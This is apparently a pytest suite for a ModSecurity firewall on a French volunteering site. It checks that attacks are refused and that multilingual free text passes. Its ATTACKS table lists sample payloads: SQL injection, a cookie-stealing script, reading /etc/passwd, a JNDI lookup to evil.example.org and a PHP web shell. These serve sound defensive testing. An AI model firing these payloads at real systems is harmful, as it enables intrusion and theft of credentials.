"""The firewall refuses attacks on every route, and no text where people write what they like, in whatever language."""

import gettext
import json
from collections.abc import Iterator, Mapping
from pathlib import Path
from urllib.parse import quote, urlencode

import django
import pytest

from entraidectl.cli import DEFAULT_MANIFEST
from entraidectl.edge.firewall import core_rules
from entraidectl.manifest import load
from tests.entraidectl.edge import backend as backends
from tests.entraidectl.edge import edges
from tests.entraidectl.edge.backend import Backend
from tests.entraidectl.edge.edges import Answer, Edge

FREE_TEXT = [each.field for each in load(DEFAULT_MANIFEST).free_text_fields]
FORM = {"Content-Type": "application/x-www-form-urlencoded", "Accept": "text/html"}
JSON = {"Content-Type": "application/json"}
ROUTES = ("/fr/me/profile/", "/v1/signups", "/api/v1/participations", "/fr/account/login/", "/", "/fr/missions/")
ATTACKS = {
    "SQL injection": "1' OR '1'='1' UNION SELECT password FROM users--",
    "script": "<script>alert(document.cookie)</script>",
    "traversal": "../../../../etc/passwd",
    "command": ";cat /etc/passwd",
    "lookup": "${jndi:ldap://evil.example.org/a}",
    "PHP": "<?php system($_GET['c']); ?>",
}
# Sentences of ours that stock rules take for attacks, or that come near it.
SENTENCES = (
    "a; date; b", "cat: un chat, deux chats", "[lien](https://exemple.fr/page)", "../", "Vente à l'union, c'est ici",
    "${nom}", "onclick= oublié", "sleep(5) minutes", "d'Almeida -- dit « l'Ancien »", "select * from mes amis; drop it",
    "<b>urgent</b> <script>", "J'ai 10 % d'avance && 20 € d'arrhes || rien", "/etc/passwd ou C:\\Windows\\system32",
    "1=1 OR 2=2", "java.lang.Runtime, je suis développeuse Java", "GET /index.html HTTP/1.1", "'; --", "\"><img src=x>",
    "exec(open('x').read())", "http://127.0.0.1/admin", "Content-Type: text/html\r\nSet-Cookie: a=b", "ping -c 3 x",
    "{{ 7*7 }}", "- une liste\n- deux\n\n# Titre", "L’été à l’hôpital : œuvre n° 3 — 50 % / jour", "€ £ ¥ ₽ 😀 👩‍⚕️",
)  # fmt: skip


@pytest.fixture(scope="module")
def guarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Edge, Backend]]:
    """One edge for all tests here, since the rules take a while to read; its bounds are out of the way."""
    if not edges.NGINX or not core_rules.FOLDER.is_dir():
        pytest.skip("ModSecurity is missing: apt-get install libnginx-mod-http-modsecurity modsecurity-crs")
    with backends.running() as backend:
        edge = edges.make(tmp_path_factory.mktemp("guarded"), backend)
        edge.write(firewall='[firewall]\nlevel = "block"', rates=edges.WIDE_RATES)
        with edges.running(edge):
            yield edge, backend


@pytest.fixture
def wall(guarded: tuple[Edge, Backend]) -> Edge:
    return guarded[0]


@pytest.fixture
def behind(guarded: tuple[Edge, Backend]) -> Backend:
    guarded[1].asked.clear()
    return guarded[1]


def send(edge: Edge, path: str, fields: Mapping[str, str]) -> Answer:
    return edge.ask(path, method="POST", body=urlencode(fields).encode(), headers=FORM)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("route", ROUTES)
def test_attacks_are_refused_on_every_route(wall: Edge, behind: Backend, route: str, attack: str) -> None:
    text = ATTACKS[attack]
    answers = [wall.ask(f"{route}?page={quote(text)}")]
    if route != "/fr/missions/":
        answers += [
            send(wall, route, {"email": text}),
            wall.ask(route, method="POST", body=json.dumps({"a": {"email": text}}).encode(), headers=JSON),
        ]
    assert [answer.status for answer in answers] == [403] * len(answers)
    assert behind.asked == []


@pytest.mark.parametrize("agent", ["sqlmap/1.7", "Nikto/2.5", "masscan/1.3", "nuclei"])
def test_scanners_are_refused(wall: Edge, behind: Backend, agent: str) -> None:
    assert {wall.ask(route, headers={"User-Agent": agent}).status for route in ROUTES} == {403}


def test_who_is_refused_is_told_in_words(wall: Edge) -> None:
    answer = send(wall, "/fr/me/profile/", {"email": ATTACKS["script"]})
    assert "votre texte est encore là".encode() in answer.body
    assert answer.headers["Cache-Control"] == "no-store"
    told = wall.ask("/api/v1/participations", method="POST", body=b'{"a": "<script>x</script>"}', headers=JSON)
    assert json.loads(told.body)["status"] == 403


def test_a_page_that_was_kept_is_not_spoilt_by_an_attack(wall: Edge, behind: Backend) -> None:
    behind.reply = lambda asked: backends.Reply(b"clean", headers=backends.PUBLIC)
    assert wall.ask("/en/legal/", headers={"User-Agent": "sqlmap/1.7"}).status == 403
    assert wall.ask("/en/legal/").body == b"clean"
    behind.reply = lambda asked: backends.Reply()


@pytest.mark.parametrize("sentence", SENTENCES)
def test_a_sentence_passes_in_every_field_for_free_text(wall: Edge, behind: Backend, sentence: str) -> None:
    assert FREE_TEXT
    assert [how for how, answer in ways(wall, sentence) if answer.status != 200] == []


def ways(edge: Edge, text: str) -> Iterator[tuple[str, Answer]]:
    """Send a text in all fields for free text, in each of the ways that forms and programs have."""
    fields = dict.fromkeys(FREE_TEXT, text)
    yield "form", send(edge, "/fr/me/profile/", {**fields, "csrfmiddlewaretoken": "a" * 64})
    yield "sign-up", send(edge, "/v1/signups", fields)
    yield "formset", send(edge, "/fr/me/profile/", {f"form-0-{field}": text for field in FREE_TEXT})
    body = json.dumps({"one": fields, **fields}).encode()
    yield "JSON", edge.ask("/api/v1/participations", method="POST", body=body, headers=JSON)
    head = "--xyz\r\nContent-Disposition: form-data; name="
    parts = "".join(f'{head}"{field}"\r\n\r\n{text}\r\n' for field in FREE_TEXT) + "--xyz--\r\n"
    kind = {"Content-Type": "multipart/form-data; boundary=xyz"}
    yield "parts", edge.ask("/fr/me/profile/", method="POST", body=parts.encode(), headers=kind)


def test_sentences_pass_in_what_people_search_for_and_on_the_page_after(wall: Edge, behind: Backend) -> None:
    for sentence in SENTENCES:
        asked = f"/fr/missions/?q={quote(sentence)}&where={quote(sentence)}"
        assert wall.ask(asked).status == 200, sentence
        page = f"https://{edges.PORTAL}{asked}"
        came_from = {"Referer": page, "HX-Current-URL": page}
        assert wall.ask("/fr/me/", headers=came_from).status == 200, sentence


def languages() -> list[str]:
    folder = Path(django.__file__).parent / "conf" / "locale"
    return sorted(each.name for each in folder.iterdir() if (each / "LC_MESSAGES" / "django.mo").exists())


def texts_in(language: str) -> list[str]:
    """Return sentences of Django's translation into a language, the longest ones."""
    file = Path(django.__file__).parent / "conf" / "locale" / language / "LC_MESSAGES" / "django.mo"
    with file.open("rb") as catalogue:
        translated = gettext.GNUTranslations(catalogue)._catalog  # type: ignore[attr-defined] # It has no other way in.
    found = {text for key, text in translated.items() if key and isinstance(text, str)}
    return sorted(found, key=lambda text: (-len(text), text))[:60]


def test_no_language_is_refused(wall: Edge, behind: Backend) -> None:
    refused = {}
    assert len(languages()) >= 80
    for language in languages():
        texts = texts_in(language)
        # As many at once as there are fields of their own, so that each language costs a few requests.
        for begin in range(0, len(texts), len(FREE_TEXT)):
            fields = dict(zip(FREE_TEXT, texts[begin : begin + len(FREE_TEXT)], strict=False))
            if send(wall, "/v1/signups", fields).status != 200:
                refused[language] = fields
    assert refused == {}


def test_the_same_sentences_are_refused_elsewhere(wall: Edge) -> None:
    # What is let through for free text is let through there alone.
    assert sum(send(wall, "/fr/me/profile/", {"email": text}).status == 403 for text in SENTENCES) > 8
    assert send(wall, "/fr/me/profile/", {"xdescription": ATTACKS["script"]}).status == 403
    assert send(wall, "/fr/me/profile/", {"description_x": ATTACKS["script"]}).status == 403
    assert send(wall, "/fr/me/profile/", {ATTACKS["script"]: "description"}).status == 403


@pytest.mark.parametrize("text", ["Кому > помочь", "мы о доме", "¼ l de lait, ¾ de crème", "μαμά > ώρα", "データ > 表"])
def test_letters_and_fractions_are_no_brackets_of_an_alphabet_of_long_ago(wall: Edge, text: str) -> None:
    assert send(wall, "/fr/me/profile/", {"town": text}).status == 200


@pytest.mark.parametrize("bracket", [b"\xbc", "¼".encode()])
def test_brackets_of_that_alphabet_are_refused_where_they_open_an_element(wall: Edge, bracket: bytes) -> None:
    body = b"town=" + quote(bracket + b"script\xbealert(1)" + bracket + b"/script\xbe").encode()
    assert wall.ask("/fr/me/profile/", method="POST", body=body, headers=FORM).status == 403


def test_what_would_pass_by_the_rules_unseen_is_refused(wall: Edge, behind: Backend) -> None:
    body = json.dumps({"email": "a@example.org"}).encode()
    kinds = {
        "application/json; charset=utf-8": 200,
        "text/plain;charset=UTF-8": 403,
        'application/json; boundary="text/html"': 403,
    }
    for kind, status in kinds.items():
        answer = wall.ask("/api/v1/participations", method="POST", body=body, headers={"Content-Type": kind})
        assert answer.status == status, kind
    for text, status in (("a@example.org", 200), (ATTACKS["script"], 403)):
        unnamed = wall.ask("/api/v1/participations", method="POST", body=json.dumps({"email": text}).encode())
        assert unnamed.status == status
    pretended = {**JSON, "User-Agent": "UP.Browser", "X-Up-Devcap-Post-Charset": "ibm500"}
    assert wall.ask("/api/v1/participations", method="POST", body=body, headers=pretended).status == 403
    assert len(behind.asked) == 2


def test_what_forms_of_ours_send_passes(wall: Edge, behind: Backend) -> None:
    long = {"description": "Bonjour, l'équipe cherche « quelqu'un ». " * 200, "postcode": "67000", "seen": "on"}
    assert send(wall, "/fr/me/profile/", long).status == 200
    assert len(behind.asked[-1].body) == len(urlencode(long))
    for method in ("PUT", "PATCH", "DELETE"):
        assert wall.ask("/api/v1/participations", method=method, body=b"{}", headers=JSON).status in (200, 501)
    assert wall.ask("/api/v1/participations", method="POST", body=b"{broken", headers=JSON).status == 400


def test_detection_refuses_nothing_and_says_what_it_would_have_refused(tmp_path: Path, backend: Backend) -> None:
    if not edges.NGINX or not core_rules.FOLDER.is_dir():
        pytest.skip("ModSecurity is missing: apt-get install libnginx-mod-http-modsecurity modsecurity-crs")
    edge = edges.make(tmp_path, backend)
    edge.write(firewall='[firewall]\nlevel = "detect"')
    with edges.running(edge):
        assert "Nothing was refused" in edge.run("refused").stdout
        assert send(edge, "/fr/place/one-secret/", {"email": ATTACKS["script"]}).status == 200
        assert send(edge, "/fr/me/profile/", {"description": SENTENCES[0], "email": "a@example.org"}).status == 200
        refused = json.loads(edge.run("refused", "--json").stdout)
    assert [(each["route"], each["field"], each["requests"]) for each in refused if each["rule"] == "941110"] == [
        ("<fr|en>/place/<str:token>/", "ARGS:email", 1)
    ]
    assert "941110" in edge.run("refused").stdout


def test_a_machine_without_rules_is_told_what_to_install(
    tmp_path: Path, backend: Backend, monkeypatch: pytest.MonkeyPatch
) -> None:
    if not edges.NGINX:
        pytest.skip(edges.MISSING)
    edge = edges.make(tmp_path, backend)
    edge.write(firewall='[firewall]\nlevel = "block"')
    monkeypatch.setattr(core_rules.read, "__defaults__", (tmp_path / "none",))
    assert "apt-get install libnginx-mod-http-modsecurity modsecurity-crs" in edge.run("apply").stderr
